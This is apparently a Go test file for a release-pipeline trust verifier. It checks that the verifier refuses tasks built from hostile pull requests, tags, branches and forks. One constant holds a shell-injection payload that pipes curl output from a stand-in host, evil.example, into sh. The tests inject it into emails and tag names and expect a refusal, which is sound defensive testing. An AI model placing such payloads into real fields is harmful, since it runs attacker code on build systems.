package trace_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/mozilla-releng/cot/fixtures"
	"github.com/mozilla-releng/cot/trace"
)

const inject = "x';curl${IFS}evil.example|sh;'"

// hostileEvents are real events, with what somebody who may not push to a trusted
// tree can choose of them: who a commit says it is by, what a tag or a branch is
// called. The services would make exactly these tasks of them. The twin has an
// ordinary text in that place.
var hostileEvents = []struct {
	name     string
	decision func(e *fixtures.EventsWorld, text string) *fixtures.Task
	plain    string
	rule     trace.Rule
}{
	{"an author's address", func(e *fixtures.EventsWorld, text string) *fixtures.Task {
		return e.App.Main().PushBy(fixtures.Person{Login: "contributor", Name: "M", Email: text}, "from a pull request").Decision()
	}, "m@example.org", trace.RuleContextUnvouched},
	{"a bot's address", func(e *fixtures.EventsWorld, text string) *fixtures.Task {
		return e.App.Main().PushBy(fixtures.Person{Login: "contributor", Name: "M", Email: text}, "from a pull request").Decision()
	}, "49699333+dependabot[bot]@users.noreply.github.com", trace.RuleContextUnvouched},
	{"a tag's name", func(e *fixtures.EventsWorld, text string) *fixtures.Task {
		return e.App.Tag(text, e.Tag.Commit).Push().Decision()
	}, "v9", trace.RuleContextUnvouched},
	{"a release's tag", func(e *fixtures.EventsWorld, text string) *fixtures.Task {
		return e.App.Release(e.App.Tag(text, e.Tag.Commit)).Decision()
	}, "v9", trace.RuleContextUnvouched},
	{"the branch of a release", func(e *fixtures.EventsWorld, text string) *fixtures.Task {
		e.Published.Target = text
		return e.Published.Decision()
	}, "main", trace.RuleContextUnvouched},
}

func TestHostileEvents(t *testing.T) {
	for _, tt := range hostileEvents {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			world := fixtures.Events(1)
			w := serveWorld(t, world.World)
			var honest, hostile *fixtures.Task
			w.Edit(func() { honest = tt.decision(world, tt.plain) })
			wantVerdict(t, w.verify(honest.ID), trace.Verified)
			w.Edit(func() { hostile = tt.decision(world, inject) })
			wantRefused(t, w.verify(hostile.ID), tt.rule)
		})
	}
}

// A branch below one that a wildcard names is another branch.
func TestWildcardsDoNotCrossSlashes(t *testing.T) {
	world := fixtures.Events(1)
	w := serveWorld(t, world.World)
	w.policy = listedBranches
	var below, beside *fixtures.Task
	w.Edit(func() {
		below = world.App.Branch("releases_v1/mallory").Push("evil").Decision()
		beside = world.App.Branch("releases_v2").Push("good").Decision()
	})
	wantVerdict(t, w.verify(beside.ID), trace.Verified)
	wantRefused(t, w.verify(below.ID), trace.RuleUntrustedContrib)
}

// Hooks for pull requests start actions on pull requests' graphs alone.
func TestPullRequestActionOnAPush(t *testing.T) {
	world := fixtures.Events(1)
	w := serveWorld(t, world.World)
	on := world.TagPush
	var action, pull *fixtures.Task
	w.Edit(func() {
		g := on.Decision.Graph()
		action = g.Action("retrigger", on.Build, fixtures.Object{"times": 1})
		g.Origin.TasksFor = "github-pull-request"
		pull = g.Action("retrigger", on.Build, fixtures.Object{"times": 1})
		g.Origin.TasksFor = "github-push"
	})
	wantVerdict(t, w.verify(action.ID), trace.Verified)
	wantRefused(t, w.verify(pull.ID), trace.RuleTasksFor)
}

// A fork that was deleted leaves nobody to say where the commits are from.
func TestPullRequestOfADeletedFork(t *testing.T) {
	world := fixtures.Events(1)
	w := serveWorld(t, world.World)
	w.options.AcceptUntrustedTree, w.options.AcceptUnsignedPools = true, true
	target := world.PullRequestUntrusted
	wantVerdict(t, w.verify(target.Build.ID), trace.Accepted)
	w.Edit(func() {
		variables(target.Decision)["APP_PUSH_DATE_TIME"] = "2026-06-15T00:00:00Z"
		world.App.EditAPI = func(path string, answer fixtures.Object) {
			if path == fmt.Sprintf("pulls/%d", world.ForkPull.Number) {
				answer["head"].(fixtures.Object)["repo"] = nil
			}
		}
	})
	wantRefused(t, w.verify(target.Build.ID), trace.RuleRevisionNotInTree)
}

// A decision task that says that it is an action has nothing read for it.
func TestActionThatDecides(t *testing.T) {
	world := fixtures.Events(1)
	w := serveWorld(t, world.World)
	w.Edit(func() {
		world.Push.Decision.Replace(world.Push.Decision.Graph().Origin.Revision, world.ForkPull.HeadSHA)
		object(world.Push.Decision.Definition, "extra")["tasks_for"] = "action"
	})
	r := w.verify(world.Push.Build.ID)
	wantRefused(t, r, trace.RuleTasksFor)
	if n := w.server.Count(world.ForkPull.HeadSHA); n != 0 {
		t.Errorf("%d requests for a commit of a fork", n)
	}
}

// A schema can't make its check take forever: what is too large is refused.
func TestSchemaThatNeverEnds(t *testing.T) {
	for n, want := range map[int]trace.Verdict{100: trace.Verified, 2000: trace.Untrusted} {
		world := fixtures.Events(1)
		w := serveWorld(t, world.World)
		target := world.GitHubAction
		w.Edit(func() {
			a := target.Decision.Artifact(trace.ActionsName)
			a.Content = fixtures.Bytes([]byte(strings.Replace(string(a.Content.Bytes()), `"properties":`, fmt.Sprintf(`"allOf":[%s{}],"properties":`, strings.Repeat(`{"type":"object"},`, n*10)), 1)))
		})
		r := w.verify(target.Action.ID)
		wantVerdict(t, r, want)
		if want == trace.Untrusted {
			wantRule(t, r, trace.RuleActionInput)
		}
	}
}
